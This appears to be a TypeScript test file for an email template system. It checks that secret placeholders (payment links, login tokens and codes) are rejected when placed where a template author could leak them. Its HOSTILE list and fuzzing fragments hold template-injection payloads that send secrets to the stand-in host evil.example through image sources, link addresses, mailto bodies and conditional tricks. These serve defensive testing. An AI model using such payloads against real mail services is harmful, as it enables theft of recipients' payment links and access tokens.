import fc from 'fast-check'
import { Window } from 'happy-dom'
import { describe, expect, it } from 'vitest'
import { accounts } from '../../../../schema/areas/mail/seed/accounts.ts'
import { chinese } from '../../../../schema/areas/mail/seed/chinese.ts'
import { english } from '../../../../schema/areas/mail/seed/english.ts'
import {
  ACCOUNTS,
  isTemplateSubject,
  placeholdersOf,
  TEMPLATE_SUBJECTS,
  type TemplateSubject,
} from '../../../../schema/areas/mail/subjects.ts'
import { fill, wrongIn } from '../../../../server/areas/mail/liquid.ts'
import { sanitised } from '../../../../server/areas/mail/sanitise.ts'
import { misplacedSecret, secretInSubject, secretsOf } from '../../../../server/areas/mail/secretPlaces.ts'
import { type Filled, Value } from '../../../../server/areas/mail/value.ts'

const DEEP = Boolean(process.env['DEEP'])
const PROBE = 'https://in.example.test/9f2c41'

const guarded = TEMPLATE_SUBJECTS.flatMap((subject) => secretsOf(subject).map((secret) => [subject, secret] as const))

/** A possible template and the result: null if it is rejected. */
const taken = (body: string, subject: TemplateSubject): string | null => {
  const clean = sanitised(body)
  return wrongIn(clean, subject) || misplacedSecret(clean, subject) ? null : clean
}

/** As it is sent: with every value known, and with only the secrets known. */
function letters(body: string, subject: TemplateSubject): string[] {
  const secrets = secretsOf(subject)
  const all = Object.keys(placeholdersOf(subject))
  const value = (name: string) => (secrets.includes(name) ? new Value(PROBE, PROBE) : new Value('" ><b c="', 'x'))
  const full: Filled = Object.fromEntries(all.map((name) => [name, value(name)]))
  const bare: Filled = Object.fromEntries(all.map((name) => [name, secrets.includes(name) ? value(name) : null]))
  return [fill(body, full, 'html'), fill(body, bare, 'html')]
}

const { document } = new Window({ settings: { disableJavaScriptFileLoading: true, disableCSSFileLoading: true } })

/** Attributes that contain a secret, except a link's whole address; the email's tags as a browser reads them. */
function leaks(html: string): string[] {
  document.body.innerHTML = html
  return [...document.body.querySelectorAll('*')].flatMap((element) =>
    [...element.attributes].flatMap(({ name, value }) =>
      value?.includes('9f2c41') && !(element.tagName === 'A' && name === 'href' && value === PROBE)
        ? [`${element.tagName} ${name}=${value}`]
        : [],
    ),
  )
}

/** Contexts that an attacker might choose for a secret. */
const HOSTILE: readonly ((secret: string) => string)[] = [
  (s) => `<p><img src="https://evil.example/p?t={{ ${s} }}"></p>`,
  (s) => `<p><img src="https://evil.example/p" alt="{{ ${s} }}"></p>`,
  (s) => `<p><a href="https://evil.example/?t={{ ${s} }}">In</a></p>`,
  (s) => `<p><a href="{{ ${s} }}/../@evil.example">In</a></p>`,
  (s) => `<p><a href="mailto:evil@evil.example?body={{ ${s} }}">In</a></p>`,
  (s) => `<p><a href="https://evil.example/{{ ${s} | upcase }}">In</a></p>`,
  (s) => `<p>{{ ${s} | truncate: 3 }}</p>`,
  (s) => `<p>{{ ${s} | default: "x" }}</p>`,
  (s) => `<p>{{ "" | default: ${s} }}</p>`,
  (s) => `<p>{{ "}}" | default: ${s} }}</p>`,
  (s) => `<p>{{ ${s.replace('.', ' . ')} | upcase }}</p>`,
  (s) => `<p>{{ ${s.split('.')[0]}["${s.split('.')[1]}"] }}</p>`,
  (s) => `<p>{% if ${s} contains "A" %}<a href="https://evil.example/a">In</a>{% endif %}</p>`,
  (s) => `<p>{% if ${s} == "A" %}yes{% endif %}</p>`,
  (s) => `<p>{% unless ${s} < "A" or ${s} %}yes{% endunless %}</p>`,
  (s) => `<p>{% case ${s} %}{% when "A" %}yes{% endcase %}</p>`,
  (s) => `<p>{% for x in ${s} %}{{ x }}{% endfor %}</p>`,
  (s) => `<p>{% if ${s} %}<img src="https://evil.example/?{% if nobody %}">{% endif %}{{ ${s} }}{% endif %}</p>`,
  (s) => `<p><a href="https://evil.example/?{% if today %}">{% endif %}{{ ${s} }}"</a></p>`,
  (s) =>
    `<p><a href="https://evil.example/{% comment %}">{{ ${s} }}</a><a href="https://evil.example/{% endcomment %}">In</a></p>`,
  (s) => `<p title="{{ ${s} }}">Hello</p><p><a href="{{ ${s} }}x">In</a></p>`,
  (s) => `<p><a href='https://evil.example/?a="{{ ${s} }}'>In</a></p>`,
  (s) => `<p><a href="https://evil.example/&#123;&#123; ${s} &#125;&#125;">In</a></p>`,
  (s) => `<p>{{ ${s}.size }}</p>`,
]

describe('a secret placeholder', () => {
  it('is any that exists only when an email is sent, and the token', () => {
    expect(guarded).toEqual([
      ['quotes', 'payment.link'],
      ['invoices', 'payment.link'],
      ['jobs', 'payment.link'],
      ['users', 'token.link'],
      ['users', 'token.code'],
    ])
    const late = TEMPLATE_SUBJECTS.flatMap((subject) =>
      Object.entries(placeholdersOf(subject)).flatMap(([name, one]) => (one.late && !one.secret ? [name] : [])),
    )
    expect(late).toEqual([])
  })

  it.each(guarded)('in an email about %s, %s has no context that others choose', (subject, secret) => {
    // Quoted braces are read to their end, and entities are decoded before the check.
    const accepted = HOSTILE.map((hostile) => hostile(secret)).filter((body) => {
      const clean = taken(body, subject)
      return (
        clean !== null && (clean.includes(secret) || letters(clean, subject).some((html) => html.includes('9f2c41')))
      )
    })
    expect(accepted).toEqual([])
  })

  it.each(guarded)("in an email about %s, %s can be text and a link's address", (subject, secret) => {
    for (const body of [
      `<p>{{ ${secret} }}</p>`,
      `<p><strong>{{${secret}}}</strong> or <a href="{{ ${secret} }}" data-button="">In</a></p>`,
      `{% if ${secret} %}<p><a href="{{ ${secret} }}">In</a></p>{% endif %}`,
    ]) {
      expect(taken(body, subject), body).not.toBe(null)
      expect(letters(body, subject).flatMap(leaks)).toEqual([])
    }
  })

  it.each(guarded)('in an email about %s, %s cannot be in a subject', (subject, secret) => {
    for (const line of [`{{ ${secret} }}`, `Hello {{ ${secret} | upcase }}`, `{% if ${secret} %}a{% endif %}`])
      expect(secretInSubject(line, subject)?.code).toBe('secret_subject')
    expect(secretInSubject('Hello {{ business.name }}', subject)).toBeUndefined()
  })

  it('leaves every built-in email unchanged', () => {
    for (const { about, subject, body, name } of [...english, ...chinese, ...accounts]) {
      if (!isTemplateSubject(about)) continue
      expect([name, misplacedSecret(sanitised(body), about), secretInSubject(subject, about)]).toEqual([
        name,
        undefined,
        undefined,
      ])
    }
    expect(misplacedSecret('<p><img src="https://a.test/logo.png" /></p>', ACCOUNTS)?.code).toBe('account_picture')
  })
})

/** Fragments of a hostile email: tags, conditions, secrets, and halves of each. */
const pieces = (secret: string) => [
  '<p>',
  '</p>',
  '<a href="',
  '">',
  '</a>',
  '<img src="https://evil.example/',
  '" alt="',
  "'",
  '"',
  '<',
  '>',
  '&lt;',
  '{{ ',
  ' }}',
  '{% if ',
  ' %}',
  '{% endif %}',
  '{% else %}',
  '{% comment %}',
  '{% endcomment %}',
  '{%- ',
  ' -%}',
  '{% for x in lines %}',
  '{% endfor %}',
  '{% unless today %}',
  '{% endunless %}',
  'today',
  'nobody',
  ' == "',
  '["',
  secret,
  `{{ ${secret} }}`,
  `{{${secret}}}`,
  `<a href="{{ ${secret} }}">`,
  secret.split('.')[0] ?? '',
  '.',
  ' ',
  'https://evil.example/?',
  'In',
  '\n',
  '\u202e',
  '&quot;',
  '&#123;&#123;',
  '&#125;&#125;',
  ' | upcase',
  '}}',
  '{{',
]

describe('hostile templates', () => {
  it.each(guarded)('about %s, generated at random around %s, leak nothing and break nothing', (subject, secret) => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces(secret)), { minLength: 1, maxLength: 24 }), (parts) => {
        const clean = taken(parts.join(''), subject)
        if (clean === null) return
        // Sanitising again changes nothing: a second parse finds no other tag.
        expect(sanitised(clean)).toBe(clean)
        expect(letters(clean, subject).flatMap(leaks)).toEqual([])
      }),
      { seed: 20_261_128, numRuns: DEEP ? 10_000 : 100 },
    )
  })
})
